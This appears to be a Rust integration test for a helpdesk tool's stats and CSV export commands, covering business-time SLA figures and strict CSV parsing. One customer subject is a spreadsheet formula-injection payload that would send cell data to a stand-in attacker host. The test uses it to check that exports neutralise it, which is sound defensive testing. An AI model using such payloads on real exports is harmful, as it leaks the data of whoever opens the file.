//! `postdesk stats` and `postdesk export` over a real server: customers
//! write over SMTP on a Friday afternoon in New York, the agent answers by
//! mail on Monday (the process clock driven by `POSTDESK_CLOCK_FILE`), one
//! ticket is resolved and rated. The figures (`--json`, `--csv`) count
//! what happened, first-response and resolution times are business time
//! of the SLA policy's calendar, and every CSV is read back with Python's
//! `csv` module in strict mode: a subject with a comma, a quote and a line
//! break survives, a subject written as a formula is made inert.
//! An empty or unreadable window is refused.

mod common;

use std::path::{Path, PathBuf};

use common::sink::{Received, SECRET, Sink, outbound_rules};
use common::{DEADLINE, Env, Mail, Options, TestServer, eventually, text_mail};
use serde_json::Value;

const ALICE: &str = "alice@customer.test";
const MALLORY: &str = "mallory@evil.test";
const BOB: &str = "bob@agents.test";

/// The subject with a comma, quotes and a line break, as Alice's mail
/// carries it (an RFC 2047 encoded word) and as postdesk decodes it.
const TRICKY_WIRE: &str = "=?UTF-8?Q?Invoice_42=2C_=22urgent=22=0Asecond_line_=E2=82=AC?=";
const TRICKY: &str = "Invoice 42, \"urgent\"\nsecond line €";
const FORMULA: &str = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")";

const POLICY: &str = "[sla.calendar.office]\n\
     time_zone = \"America/New_York\"\n\
     monday    = [\"09:00-12:00\", \"13:00-18:00\"]\n\
     tuesday   = [\"09:00-12:00\", \"13:00-18:00\"]\n\
     wednesday = [\"09:00-12:00\", \"13:00-18:00\"]\n\
     thursday  = [\"09:00-12:00\", \"13:00-18:00\"]\n\
     friday    = [\"09:00-17:00\"]\n\
     [[sla.policy]]\nname = \"office\"\ncalendar = \"office\"\nqueues = [\"support\"]\n\
     [sla.policy.targets]\n\
     high = { first_response = \"4h\", next_response = \"4h\", resolution = \"24h\" }\n";

fn set_clock(path: &Path, t: &str) {
    let tmp = path.with_extension("tmp");
    std::fs::write(&tmp, t).expect("write clock");
    std::fs::rename(&tmp, path).expect("rename clock");
}

/// A New York civil time as an RFC 3339 instant.
fn ny(civil: &str) -> String {
    format!("{civil}[America/New_York]")
        .parse::<jiff::Zoned>()
        .expect("zoned")
        .timestamp()
        .to_string()
}

fn helpdesk(sink: &Sink, start: &str) -> (TestServer, PathBuf) {
    let extra = format!(
        "[agents]\nbob = \"{BOB}\"\n[teams]\nsupport = [\"bob\"]\n\
         [tickets]\ndefault_priority = \"High\"\n{POLICY}"
    );
    let env = Env::new(&Options::default());
    env.write_config(
        "rules.toml",
        &outbound_rules("example.com", sink.port, &extra),
    );
    env.write_secret("token_secret", SECRET);
    let clock = env.dir.path().join("clock");
    set_clock(&clock, start);
    let vars = vec![(
        "POSTDESK_CLOCK_FILE".to_owned(),
        clock.display().to_string(),
    )];
    (TestServer::start_in(env, vars), clock)
}

/// Alice's first mail: text and a small attachment.
fn with_attachment(id: &str) -> Mail {
    let raw = format!(
        "From: Alice Example <{ALICE}>\r\nTo: support@example.com\r\n\
         Subject: Printer on fire\r\nDate: Fri, 11 Dec 2026 16:00:00 -0500\r\n\
         Message-ID: <{id}>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n\
         --b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
         Hello,\r\nmy printer is on fire. The log is attached.\r\n\
         --b1\r\nContent-Type: text/plain; name=\"printer.log\"\r\n\
         Content-Disposition: attachment; filename=\"printer.log\"\r\n\r\n\
         E42 paper jam\r\nE43 smoke\r\n--b1--\r\n"
    );
    Mail::new(ALICE, &["support@example.com"], raw.into_bytes())
}

fn customer(from: &str, subject: &str, id: &str) -> Mail {
    Mail::new(
        from,
        &["support@example.com"],
        text_mail(
            from,
            "support@example.com",
            subject,
            id,
            &[],
            "Hello,\nplease help.\n",
        ),
    )
}

/// Bob's notification of ticket `number` (it carries the agent address).
fn notification(sink: &Sink, number: &str) -> Received {
    eventually(DEADLINE, || {
        sink.to(BOB)
            .into_iter()
            .find(|m| {
                m.header("Reply-To").is_some() && m.subject().contains(&format!("[#{number}]"))
            })
            .ok_or_else(|| format!("no notification of #{number} yet"))
    })
}

/// Bob's mail to the agent address of `notification`.
fn bob(notification: &Received, id: &str, text: &str) -> Mail {
    let token = notification.parsed.reply_to[0].address.clone();
    Mail::new(
        BOB,
        &[&token],
        text_mail(
            &format!("Bob <{BOB}>"),
            &token,
            &format!("Re: {}", notification.subject()),
            id,
            &[("In-Reply-To", &format!("<{}>", notification.message_id()))],
            text,
        ),
    )
}

/// The rating address of `score` in a survey mail.
fn rating_address(survey: &Received, score: u8) -> String {
    let text = &survey.parsed.text;
    let line = text
        .lines()
        .find(|l| l.trim_start().starts_with(&format!("{score} - ")))
        .unwrap_or_else(|| panic!("no line for {score} in {text}"));
    line.split("<mailto:")
        .nth(1)
        .and_then(|l| l.split(['?', '>']).next())
        .unwrap_or_else(|| panic!("no mailto link in {line:?}"))
        .to_owned()
}

/// Run a `--csv` command; check the bytes end in CRLF and parse them with
/// Python's `csv` module (strict: a malformed field is an error) into
/// rows of cells.
fn csv_rows(server: &TestServer, args: &[&str]) -> Vec<Vec<String>> {
    let out = server.env.run_ok(args);
    assert!(out.ends_with("\r\n"), "records end in CRLF: {out:?}");
    let file = server.env.dir.path().join("out.csv");
    std::fs::write(&file, &out).expect("write csv");
    let script = "import csv, json, sys\n\
                  with open(sys.argv[1], newline='', encoding='utf-8') as f:\n\
                  \x20   print(json.dumps(list(csv.reader(f, strict=True))))\n";
    let py = std::process::Command::new("python3")
        .arg("-c")
        .arg(script)
        .arg(&file)
        .output()
        .expect("run python3");
    assert!(
        py.status.success(),
        "python's csv module refused the output of {args:?}: {}\n{out}",
        String::from_utf8_lossy(&py.stderr)
    );
    serde_json::from_slice(&py.stdout).expect("rows as JSON")
}

/// The rows of `rows` (after the header) as maps from column name.
fn records(rows: &[Vec<String>]) -> Vec<std::collections::HashMap<String, String>> {
    let header = &rows[0];
    rows[1..]
        .iter()
        .map(|r| {
            assert_eq!(r.len(), header.len(), "every row has every column: {r:?}");
            header.iter().cloned().zip(r.iter().cloned()).collect()
        })
        .collect()
}

#[test]
fn figures_and_exports_count_business_time_and_survive_a_spreadsheet() {
    let sink = Sink::start();
    // Friday 2026-12-11, 16:00 in New York: one business hour left.
    let (server, clock) = helpdesk(&sink, &ny("2026-12-11T16:00"));
    server.deliver(&[with_attachment("s1@customer.test")]);
    set_clock(&clock, &ny("2026-12-11T16:30"));
    server.deliver(&[Mail::new(
        ALICE,
        &["support@example.com"],
        text_mail(
            &format!("Alice Example <{ALICE}>"),
            "support@example.com",
            TRICKY_WIRE,
            "s2@customer.test",
            &[],
            "Hello,\nthe invoice is wrong.\n",
        ),
    )]);
    set_clock(&clock, &ny("2026-12-11T16:45"));
    server.deliver(&[customer(MALLORY, FORMULA, "s3@evil.test")]);
    assert_eq!(server.show_json("1002")["subject"], TRICKY);
    assert_eq!(server.show_json("1003")["subject"], FORMULA);

    // Monday 09:30: Bob answers #1001 (1 h on Friday + 30 min: 5400 s of
    // business time, though two and a half days passed).
    set_clock(&clock, &ny("2026-12-14T09:30"));
    let n1 = notification(&sink, "1001");
    server.deliver(&[bob(&n1, "b1@agents.test", "We are on it.\n")]);
    // 11:00: Bob takes #1002 and resolves it with an answer (30 min on
    // Friday + 2 h: 9000 s, first response and resolution alike).
    set_clock(&clock, &ny("2026-12-14T11:00"));
    let n2 = notification(&sink, "1002");
    server.deliver(&[bob(
        &n2,
        "b2@agents.test",
        "#assign bob\n#resolve\nCorrected, thanks.\n",
    )]);
    eventually(DEADLINE, || {
        let t = server.show_json("1002");
        if t["status"] == "Resolved" {
            Ok(())
        } else {
            Err(format!("{}", t["status"]))
        }
    });
    // Alice rates it 4 from the survey.
    let survey = eventually(DEADLINE, || {
        sink.to(ALICE)
            .into_iter()
            .find(|m| m.subject().starts_with("How did we do?"))
            .ok_or_else(|| "no survey yet".to_owned())
    });
    let four = rating_address(&survey, 4);
    server.deliver(&[Mail::new(
        ALICE,
        &[&four],
        text_mail(
            ALICE,
            &four,
            "Rating: 4 of 5 [#1002]",
            "r1@customer.test",
            &[],
            "Thanks.\n",
        ),
    )]);
    assert_eq!(server.show_json("1002")["satisfaction"]["score"], 4);

    // 16:00: Mallory's ticket, due 13:45 (4 business hours from Friday
    // 16:45), is unanswered: breached.
    set_clock(&clock, &ny("2026-12-14T16:00"));
    let v = server.env.run_json(&["stats", "--json"]);
    let t = &v["total"];
    assert_eq!(v["since"], Value::Null, "{v:#}");
    assert_eq!(v["by"], Value::Null);
    assert_eq!(
        (&t["opened"], &t["resolved"], &t["closed"]),
        (&Value::from(3), &Value::from(1), &Value::from(0)),
        "{v:#}"
    );
    assert_eq!(t["first_response"]["count"], 2, "{v:#}");
    assert_eq!(t["first_response"]["median_seconds"], 7200, "{v:#}");
    assert_eq!(t["first_response"]["p90_seconds"], 9000, "{v:#}");
    assert_eq!(t["resolution"]["count"], 1, "{v:#}");
    assert_eq!(t["resolution"]["median_seconds"], 9000, "{v:#}");
    assert_eq!(t["sla"]["first_response"]["met"], 2, "{v:#}");
    assert_eq!(t["sla"]["first_response"]["breached"], 1, "{v:#}");
    assert_eq!(t["sla"]["first_response"]["compliance"], 0.6667, "{v:#}");
    assert_eq!(t["sla"]["resolution"]["met"], 1, "{v:#}");
    assert_eq!(t["sla"]["resolution"]["breached"], 0, "{v:#}");
    assert_eq!(t["satisfaction"]["count"], 1, "{v:#}");
    assert_eq!(t["satisfaction"]["average"], 4.0, "{v:#}");

    // By client (the requester's domain, no client mailbox here).
    let v = server.env.run_json(&["stats", "--by", "client", "--json"]);
    let groups = v["groups"].as_array().expect("groups");
    assert_eq!(groups.len(), 2, "{v:#}");
    assert_eq!(groups[0]["client"], "customer.test");
    assert_eq!(groups[0]["opened"], 2);
    assert_eq!(groups[0]["resolved"], 1);
    assert_eq!(groups[1]["client"], "evil.test");
    assert_eq!(groups[1]["sla"]["first_response"]["breached"], 1);
    // By agent: Bob holds #1002.
    let v = server.env.run_json(&["stats", "--by", "agent", "--json"]);
    let bob_group = v["groups"]
        .as_array()
        .expect("groups")
        .iter()
        .find(|g| g["agent"] == "bob")
        .cloned()
        .unwrap_or_else(|| panic!("no group of bob: {v:#}"));
    assert_eq!(bob_group["resolved"], 1, "{v:#}");
    assert_eq!(bob_group["resolution"]["median_seconds"], 9000);

    // A window from Monday (UTC): nothing opened in it, one resolution
    // and one rating; first-response times belong to the opening window.
    let v = server
        .env
        .run_json(&["stats", "--since", "2026-12-14", "--json"]);
    assert_eq!(v["since"], "2026-12-14T00:00:00Z", "{v:#}");
    let t = &v["total"];
    assert_eq!(t["opened"], 0, "{v:#}");
    assert_eq!(t["resolved"], 1, "{v:#}");
    assert_eq!(t["first_response"]["count"], 0, "{v:#}");
    assert_eq!(t["first_response"]["median_seconds"], Value::Null);
    assert_eq!(t["satisfaction"]["count"], 1, "{v:#}");
    // Until Saturday (UTC): the three openings, nothing resolved yet.
    let v = server
        .env
        .run_json(&["stats", "--until", "2026-12-12", "--json"]);
    assert_eq!(v["total"]["opened"], 3, "{v:#}");
    assert_eq!(v["total"]["resolved"], 0, "{v:#}");
    // A bad window is refused, naming the flag.
    let out = server.env.run(&["stats", "--until", "soon"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("--until `soon`"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = server
        .env
        .run(&["stats", "--since", "2026-12-14", "--until", "2026-12-01"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("is not before --until"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The ratings alone still have their subcommand.
    let v = server.env.run_json(&["stats", "satisfaction", "--json"]);
    assert_eq!(v["total"]["count"], 1, "{v:#}");

    // The same figures as CSV.
    let rows = csv_rows(&server, &["stats", "--by", "client", "--csv"]);
    let r = records(&rows);
    assert_eq!(r.len(), 3, "{rows:?}");
    assert_eq!((r[0]["by"].as_str(), r[0]["group"].as_str()), ("all", ""));
    assert_eq!(r[0]["opened"], "3");
    assert_eq!(r[0]["first_response_median_seconds"], "7200");
    assert_eq!(r[0]["sla_first_response_compliance"], "0.6667");
    assert_eq!(r[0]["satisfaction_average"], "4");
    assert_eq!(
        (r[1]["by"].as_str(), r[1]["group"].as_str()),
        ("client", "customer.test")
    );
    assert_eq!(r[2]["group"], "evil.test");

    // Tickets: one row each, the tricky subject intact, the formula inert.
    let rows = csv_rows(&server, &["export", "tickets", "--csv"]);
    let r = records(&rows);
    assert_eq!(r.len(), 3, "{rows:?}");
    assert_eq!(r[0]["number"], "#1001");
    assert_eq!(r[0]["first_response_seconds"], "5400");
    assert_eq!(r[0]["first_response_at"], ny("2026-12-14T09:30"));
    assert_eq!(r[0]["sla_policy"], "office");
    assert_eq!(r[1]["subject"], TRICKY);
    assert_eq!(r[1]["status"], "Resolved");
    assert_eq!(r[1]["assignee"], "bob");
    assert_eq!(r[1]["resolved_at"], ny("2026-12-14T11:00"));
    assert_eq!(r[1]["resolution_seconds"], "9000");
    assert_eq!(r[1]["satisfaction"], "4");
    assert_eq!(r[2]["subject"], format!("'{FORMULA}"));
    assert_eq!(r[2]["requester"], MALLORY);
    assert_eq!(r[2]["first_response_seconds"], "");
    // --since narrows to tickets opened since.
    let rows = csv_rows(
        &server,
        &["export", "tickets", "--csv", "--since", "2026-12-14"],
    );
    assert_eq!(rows.len(), 1, "only the header: {rows:?}");

    // Messages: one row per stored message, no bodies.
    let rows = csv_rows(&server, &["export", "messages", "--csv"]);
    assert_eq!(
        rows[0],
        [
            "ticket",
            "id",
            "message_id",
            "date",
            "from",
            "direction",
            "kind",
            "subject",
            "size",
            "attachments"
        ]
    );
    let r = records(&rows);
    let stored = server.messages_json().len();
    let by_id = |id: &str| {
        let found: Vec<_> = r.iter().filter(|m| m["message_id"] == id).collect();
        assert_eq!(found.len(), 1, "one row for {id}: {rows:?}");
        found[0].clone()
    };
    let m = by_id("s1@customer.test");
    assert_eq!(m["ticket"], "#1001");
    assert_eq!(m["attachments"], "1");
    assert_eq!(m["direction"], "inbound");
    assert_eq!(m["kind"], "customer");
    assert_eq!(m["from"], ALICE);
    assert_eq!(m["date"], ny("2026-12-11T16:00"));
    assert!(m["size"].parse::<u64>().expect("size") > 100);
    let m = by_id("s2@customer.test");
    assert_eq!(m["subject"], TRICKY);
    assert_eq!(m["attachments"], "0");
    assert_eq!(by_id("s3@evil.test")["subject"], format!("'{FORMULA}"));
    assert_eq!(by_id("b2@agents.test")["kind"], "agent");
    assert!(r.len() >= stored, "{} rows, {stored} stored", r.len());
    assert!(
        !rows
            .iter()
            .flatten()
            .any(|c| c.contains("the invoice is wrong")),
        "no bodies in the export"
    );
    // Without --csv: refused, nothing written.
    let out = server.env.run(&["export", "messages"]);
    assert_ne!(out.status.code(), Some(0));
    assert!(out.stdout.is_empty());
}
